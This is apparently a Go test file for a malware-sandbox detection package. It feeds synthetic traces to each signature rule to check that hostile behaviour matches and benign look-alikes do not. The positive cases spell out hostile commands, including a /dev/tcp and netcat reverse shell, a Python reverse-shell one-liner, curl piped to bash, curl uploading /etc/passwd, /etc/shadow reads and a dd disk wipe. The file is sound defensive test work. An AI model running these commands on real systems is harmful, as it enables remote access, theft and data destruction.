package signatures

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/scalemalnet/scalemalnet/guest/trace"
)

// Builders of synthetic events. PID 100 unless set with pid().

func ex(path string, argv ...string) trace.Event {
	if len(argv) == 0 {
		argv = []string{path[strings.LastIndexByte(path, '/')+1:]}
	}
	return trace.Event{Name: "execve", Path: path, Argv: argv}
}

// sh is `sh -c CMD`: how a shell command shows in a trace.
func sh(cmd string) trace.Event { return ex("/bin/sh", "sh", "-c", cmd) }

func op(path, flags string) trace.Event {
	return trace.Event{Name: "openat", Path: path, Flags: flags, Ret: 3}
}

func wr(path string) trace.Event { return op(path, "O_WRONLY|O_CREAT|O_TRUNC") }
func rd(path string) trace.Event { return op(path, "O_RDONLY") }

func call(name string, ret int64) trace.Event { return trace.Event{Name: name, Ret: ret} }

func fail(e trace.Event, errno string) trace.Event { e.Ret, e.Err = -1, errno; return e }

func pc(name string, path2 string) trace.Event {
	return trace.Event{Name: name, Path: "/tmp/x", Path2: path2}
}

func withPath(e trace.Event, p string) trace.Event { e.Path = p; return e }

func fd(name string, n int, ret int64) trace.Event { return trace.Event{Name: name, FD: &n, Ret: ret} }

func conn(n int, addr string) trace.Event {
	e := fd("connect", n, 0)
	e.Addr = addr
	return e
}

func api(name string, args ...string) trace.APICall {
	mod, fn, _ := strings.Cut(name, ".")
	return trace.APICall{TID: 32, Module: mod, Func: fn, Args: args}
}

type item interface{}

// run builds a one-window trace of the items (events or API calls, in
// order) and returns the ids of the rules that matched.
func run(t *testing.T, set *Set, items ...item) map[string]bool {
	t.Helper()
	w := trace.Window{Index: 0, Start: 0, End: 1 << 40}
	for i, it := range items {
		switch v := it.(type) {
		case trace.Event:
			if v.PID == 0 {
				v.PID = 100
			}
			v.T = int64(i + 1)
			w.Events = append(w.Events, v)
		case trace.APICall:
			v.T = int64(i + 1)
			w.API = append(w.API, v)
		default:
			t.Fatalf("item %T", it)
		}
	}
	tr := &trace.Trace{Windows: []trace.Window{w}, Summary: trace.Summary{Processes: []trace.Process{{PID: 100, Exe: "/usr/bin/sample"}}}}
	ms, err := set.Match(context.Background(), tr)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]bool{}
	for _, m := range ms {
		if err := m.Check(); err != nil {
			t.Errorf("match %s: %v", m.ID, err)
		}
		out[m.ID] = true
	}
	return out
}

func pid(e trace.Event, p int) trace.Event { e.PID = p; return e }

func child(name string, parent, kid int) trace.Event {
	e := pid(call(name, int64(kid)), parent)
	e.Child = kid
	return e
}

// ruleCases: for every shipped rule, behaviour that must match it and
// close-by behaviour that must not (benign look-alikes where there are).
var ruleCases = map[string]struct{ pos, neg []item }{
	// credential access
	"shadow-read":         {[]item{rd("/etc/shadow")}, []item{rd("/etc/passwd"), fail(rd("/etc/shadow"), "EACCES"), op("/etc/shadow", "O_WRONLY|O_APPEND")}},
	"proc-mem-read":       {[]item{rd("/proc/4242/mem")}, []item{rd("/proc/self/maps"), rd("/proc/4242/status")}},
	"proc-mem-write":      {[]item{op("/proc/4242/mem", "O_RDWR")}, []item{rd("/proc/self/status")}},
	"private-key-search":  {[]item{ex("/usr/bin/find", "find", "/", "-name", "id_rsa")}, []item{ex("/usr/bin/find", "find", ".", "-name", "*.go"), rd("/root/.ssh/known_hosts")}},
	"credential-grep":     {[]item{ex("/bin/grep", "grep", "-ri", "password", "/etc")}, []item{ex("/bin/grep", "grep", "-r", "TODO", ".")}},
	"shell-history-read":  {[]item{ex("/bin/cat", "cat", "/root/.bash_history")}, []item{ex("/bin/cat", "cat", "/etc/hostname")}},
	"browser-credentials": {[]item{rd("/home/u/.mozilla/firefox/abc.default/logins.json")}, []item{rd("/home/u/.mozilla/firefox/abc.default/prefs.js")}},
	"login-bruteforce":    {bruteForce(22, 20), append(bruteForce(22, 19), bruteForce(8080, 40)...)},
	"brute-force-tool":    {[]item{ex("/usr/bin/hydra", "hydra", "-l", "root", "ssh://127.0.0.1")}, []item{ex("/usr/bin/ssh", "ssh", "host")}},

	// persistence
	"account-files-appended": {[]item{op("/etc/shadow", "O_WRONLY|O_APPEND")}, []item{pc("rename", "/etc/passwd"), wr("/etc/passwd+"), rd("/etc/passwd"), op("/etc/passwd.bak", "O_WRONLY|O_APPEND")}},
	"account-files-written":  {[]item{pc("rename", "/etc/passwd")}, []item{rd("/etc/passwd"), wr("/etc/passwd.bak")}},
	"account-created":        {[]item{ex("/usr/sbin/useradd", "useradd", "-M", "evil")}, []item{ex("/usr/bin/passwd", "passwd", "-S")}},
	"sudoers-modified":       {[]item{wr("/etc/sudoers.d/evil")}, []item{rd("/etc/sudoers")}},
	"ssh-authorized-keys":    {[]item{op("/root/.ssh/authorized_keys", "O_WRONLY|O_CREAT|O_APPEND")}, []item{rd("/root/.ssh/authorized_keys")}},
	"cron-modified":          {[]item{ex("/usr/bin/crontab", "crontab", "/tmp/evil")}, []item{ex("/usr/bin/crontab", "crontab", "-l"), rd("/etc/crontab")}},
	"at-job":                 {[]item{ex("/usr/bin/at", "at", "now", "+", "1", "minute")}, []item{ex("/usr/bin/at", "at", "-l")}},
	"systemd-unit-written":   {[]item{wr("/etc/systemd/system/evil.service")}, []item{rd("/lib/systemd/system/ssh.service"), ex("/bin/systemctl", "systemctl", "status", "ssh")}},
	"systemd-timer-written":  {[]item{wr("/etc/systemd/system/evil.timer")}, []item{rd("/etc/systemd/system/evil.timer")}},
	"init-script-written":    {[]item{op("/etc/rc.local", "O_WRONLY|O_APPEND")}, []item{rd("/etc/rc.local")}},
	"shell-profile-modified": {[]item{op("/root/.bashrc", "O_WRONLY|O_CREAT|O_APPEND")}, []item{rd("/root/.bashrc"), wr("/root/.bashrc.tmp")}},
	"kernel-module-load":     {[]item{fail(call("finit_module", 0), "EPERM")}, []item{ex("/sbin/modprobe", "modprobe", "-n", "x"), ex("/sbin/lsmod")}},
	"ld-so-preload":          {[]item{op("/etc/ld.so.preload", "O_WRONLY|O_CREAT|O_APPEND")}, []item{rd("/etc/ld.so.preload")}},
	"ld-preload-env":         {[]item{sh("LD_PRELOAD=/tmp/evil.so ls")}, []item{sh("ls -l /usr/lib")}},

	// defense evasion
	"history-cleared":         {[]item{withPath(call("unlink", 0), "/root/.bash_history")}, []item{rd("/root/.bash_history")}},
	"history-disabled":        {[]item{sh("export HISTSIZE=0; id")}, []item{sh("export HISTSIZE=1000; id")}},
	"log-tampering":           {[]item{withPath(call("unlinkat", 0), "/var/log/auth.log")}, []item{rd("/var/log/auth.log"), op("/var/log/app.log", "O_WRONLY|O_APPEND")}},
	"timestomp":               {[]item{ex("/usr/bin/touch", "touch", "-t", "197001010000", "/tmp/x")}, []item{ex("/usr/bin/touch", "touch", "/tmp/x")}},
	"file-shredded":           {[]item{ex("/usr/bin/shred", "shred", "-u", "/tmp/x")}, []item{ex("/bin/rm", "rm", "/tmp/x")}},
	"hidden-file-in-temp":     {[]item{withPath(call("mkdir", 0), "/var/tmp/.hidden-directory")}, []item{withPath(call("mkdir", 0), "/var/tmp/visible"), wr("/tmp/a.txt")}},
	"base64-decode":           {[]item{ex("/usr/bin/base64", "base64", "-d", "/tmp/x")}, []item{ex("/usr/bin/base64", "base64", "/tmp/x")}},
	"decoded-script-executed": {[]item{sh("echo ZWNobyBoaQ== | base64 -d | bash")}, []item{sh("echo aGk= | base64 -d > /tmp/out")}},
	"firewall-disabled":       {[]item{ex("/usr/sbin/iptables", "iptables", "-F")}, []item{ex("/usr/sbin/iptables", "iptables", "-L")}},
	"security-tool-disabled":  {[]item{ex("/bin/systemctl", "systemctl", "stop", "auditd")}, []item{ex("/bin/systemctl", "systemctl", "status", "cron")}},
	"binary-padding":          {[]item{ex("/bin/dd", "dd", "if=/dev/zero", "bs=1", "count=1", "of=/tmp/ls", "oflag=append", "conv=notrunc")}, []item{ex("/bin/dd", "dd", "if=/tmp/a", "of=/tmp/b")}},
	"masquerading-copy":       {[]item{ex("/bin/cp", "cp", "/bin/sh", "/tmp/crond")}, []item{ex("/bin/cp", "cp", "a.txt", "/tmp/b.txt")}},

	// execution, C2, ingress
	"socket-shell": {[]item{call("socket", 3), conn(3, "inet 10.0.0.1:4444"), fd("dup2", 3, 0), fd("dup2", 3, 1), ex("/bin/sh", "sh", "-i")},
		[]item{call("socket", 3), conn(3, "inet 10.0.0.1:80"), fd("dup2", 4, 1), ex("/bin/sh", "sh", "-i")}},
	"dev-tcp-shell":            {[]item{ex("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")}, []item{sh("ls /dev")}},
	"netcat-shell":             {[]item{ex("/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.1", "4444")}, []item{ex("/bin/nc", "nc", "-z", "127.0.0.1", "22")}},
	"scripted-reverse-shell":   {[]item{ex("/usr/bin/python3", "python3", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])")}, []item{ex("/usr/bin/python3", "python3", "-c", "print(1)")}},
	"tmp-executable-run":       {[]item{wr("/tmp/payload"), ex("/tmp/payload")}, []item{ex("/tmp/payload"), wr("/tmp/other"), ex("/usr/bin/id")}},
	"dropped-executable-run":   {[]item{wr("tool"), ex("/root/work/tool")}, []item{ex("/usr/bin/id"), wr("/root/notes.txt")}},
	"download-and-run":         {[]item{sh("curl -s http://10.0.0.1/x.sh | bash")}, []item{sh("curl -s -o /tmp/x http://10.0.0.1/x")}},
	"download-tool":            {[]item{ex("/usr/bin/wget", "wget", "http://10.0.0.1/x")}, []item{ex("/usr/bin/wget", "wget", "--version")}},
	"memfd-exec":               {[]item{call("memfd_create", 3), ex("/proc/self/fd/3", "x")}, []item{call("memfd_create", 3), ex("/usr/bin/id")}},
	"ptrace-attempt":           {[]item{fail(call("ptrace", 0), "EPERM")}, []item{call("getpid", 100)}},
	"miner":                    {[]item{ex("/tmp/m", "m", "-o", "stratum+tcp://pool.example:3333", "-u", "x")}, []item{ex("/usr/bin/openssl", "openssl", "speed"), conn(3, "inet 127.0.0.1:4444")}},
	"setuid-bit-set":           {[]item{ex("/bin/chmod", "chmod", "u+s", "/tmp/x")}, []item{ex("/bin/chmod", "chmod", "u+x", "/tmp/x"), ex("/bin/chmod", "chmod", "755", "/tmp/x")}},
	"capability-set":           {[]item{ex("/sbin/setcap", "setcap", "cap_net_raw+ep", "/tmp/x")}, []item{ex("/sbin/getcap", "getcap", "/tmp/x")}},
	"chmod-executable-in-temp": {[]item{ex("/bin/chmod", "chmod", "+x", "/tmp/x")}, []item{ex("/bin/chmod", "chmod", "+x", "/root/build.sh"), ex("/bin/chmod", "chmod", "644", "/tmp/x")}},

	// discovery
	"system-discovery":            {[]item{ex("/bin/uname", "uname", "-a"), ex("/bin/hostname"), rd("/etc/os-release")}, []item{ex("/bin/uname", "uname", "-a"), ex("/bin/uname", "uname", "-r")}},
	"user-discovery":              {[]item{ex("/usr/bin/whoami"), ex("/usr/bin/id")}, []item{ex("/usr/bin/id"), ex("/usr/bin/id", "id", "-u")}},
	"process-discovery":           {[]item{ex("/bin/ps", "ps", "aux")}, []item{rd("/proc/1/stat")}},
	"network-discovery":           {[]item{ex("/sbin/ip", "ip", "addr"), ex("/bin/ss", "ss", "-tan"), rd("/etc/resolv.conf")}, []item{rd("/etc/resolv.conf"), ex("/sbin/ip", "ip", "-V")}},
	"network-scan":                {[]item{ex("/usr/bin/nmap", "nmap", "127.0.0.1")}, []item{ex("/bin/nc", "nc", "-l", "8080")}},
	"connect-burst":               {burst(25), burst(5)},
	"security-software-discovery": {[]item{sh("ps aux | grep -i falcon")}, []item{sh("ps aux | grep -i nginx")}},
	"container-discovery":         {[]item{fail(withPath(call("access", 0), "/.dockerenv"), "ENOENT"), rd("/proc/1/cgroup")}, []item{rd("/proc/1/cgroup")}},

	// impact, collection, exfiltration
	"system-shutdown":             {[]item{ex("/sbin/shutdown", "shutdown", "-h", "now")}, []item{ex("/bin/systemctl", "systemctl", "status")}},
	"data-encrypted":              {[]item{ex("/usr/bin/gpg", "gpg", "-c", "--batch", "--passphrase", "x", "/tmp/f")}, []item{ex("/usr/bin/gpg", "gpg", "--verify", "f.sig")}},
	"data-destroyed":              {[]item{ex("/bin/dd", "dd", "if=/dev/zero", "of=/dev/sda", "bs=1M")}, []item{ex("/bin/dd", "dd", "if=/dev/zero", "of=/tmp/img", "bs=1M", "count=1")}},
	"local-data-archived":         {[]item{ex("/bin/tar", "tar", "czf", "/tmp/x.tgz", "/home/")}, []item{ex("/bin/tar", "tar", "czf", "/tmp/x.tgz", "src")}},
	"resource-hog":                {[]item{sh("yes > /dev/null")}, []item{sh("yes | head -n 3")}},
	"screen-or-clipboard-capture": {[]item{ex("/usr/bin/xclip", "xclip", "-o")}, []item{ex("/usr/bin/xdpyinfo")}},
	"packet-capture":              {[]item{ex("/usr/sbin/tcpdump", "tcpdump", "-c", "5")}, []item{ex("/usr/bin/ping", "ping", "-c", "1", "127.0.0.1")}},
	"exfiltration-tool":           {[]item{ex("/usr/bin/curl", "curl", "-F", "f=@/etc/passwd", "http://10.0.0.1/up")}, []item{ex("/usr/bin/curl", "curl", "-o", "/tmp/x", "http://10.0.0.1/x")}},

	// Windows under Wine
	"win-remote-thread-injection": {[]item{api("KERNEL32.WriteProcessMemory", "48"), api("KERNEL32.CreateRemoteThread", "48")}, []item{api("KERNEL32.WriteProcessMemory", "48")}},
	"win-run-key":                 {[]item{api("advapi32.RegSetValueExA", "80000001", `"Software\\Microsoft\\Windows\\CurrentVersion\\Run"`)}, []item{api("advapi32.RegSetValueExA", "80000001", `"Software\\Wine"`)}},
	"win-process-hollowing":       {[]item{api("ntdll.NtUnmapViewOfSection", "4"), api("KERNEL32.SetThreadContext", "8")}, []item{api("KERNEL32.SetThreadContext", "8")}},
	"win-keylogger-hook":          {[]item{api("user32.SetWindowsHookExA", "0000000d", "401000", "0", "0")}, []item{api("user32.SetWindowsHookExA", "00000004", "401000", "0", "0")}},
	"win-shadow-copy-delete":      {[]item{api("KERNEL32.CreateProcessA", "0", `"cmd /c vssadmin delete shadows /all /quiet"`)}, []item{api("KERNEL32.CreateProcessA", "0", `"notepad.exe"`)}},
}

func burst(n int) []item {
	var out []item
	for i := 0; i < n; i++ {
		out = append(out, fail(conn(3, "inet 10.0.0."+itoa(i+1)+":22"), "ECONNREFUSED"))
	}
	return out
}

func itoa(i int) string {
	const d = "0123456789"
	if i < 10 {
		return d[i : i+1]
	}
	return itoa(i/10) + d[i%10:i%10+1]
}

func TestShippedRules(t *testing.T) {
	set, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range set.Rules {
		c, ok := ruleCases[r.ID]
		if !ok {
			t.Errorf("rule %s (%s:%d) has no test case", r.ID, r.File, r.Line)
			continue
		}
		t.Run(r.ID, func(t *testing.T) {
			if got := run(t, set, c.pos...); !got[r.ID] {
				t.Errorf("positive example did not match (matched: %v)", keys(got))
			}
			if got := run(t, set, c.neg...); got[r.ID] {
				t.Errorf("negative example matched")
			}
		})
	}
	ids := map[string]bool{}
	for _, r := range set.Rules {
		ids[r.ID] = true
	}
	for id := range ruleCases {
		if !ids[id] {
			t.Errorf("test case for unknown rule %s", id)
		}
	}
}

func keys(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

// docs/signatures.md lists every shipped rule (regenerate its table with
// `scalemalnet signatures list --markdown`).
func TestDocsListEveryRule(t *testing.T) {
	b, err := os.ReadFile(filepath.Join("..", "..", "docs", "signatures.md"))
	if err != nil {
		t.Skipf("no docs/signatures.md beside the package: %v", err)
	}
	set, _ := Default()
	for _, r := range set.Rules {
		if !strings.Contains(string(b), "| `"+r.ID+"` | "+itoa(r.Severity)+" ") {
			t.Errorf("docs/signatures.md lacks rule %s with severity %d", r.ID, r.Severity)
		}
	}
}

// bruteForce is n connection attempts to a port of 127.0.0.1.
func bruteForce(port, n int) []item {
	out := make([]item, n)
	for i := range out {
		out[i] = conn(3+i, fmt.Sprintf("inet 127.0.0.1:%d", port))
	}
	return out
}
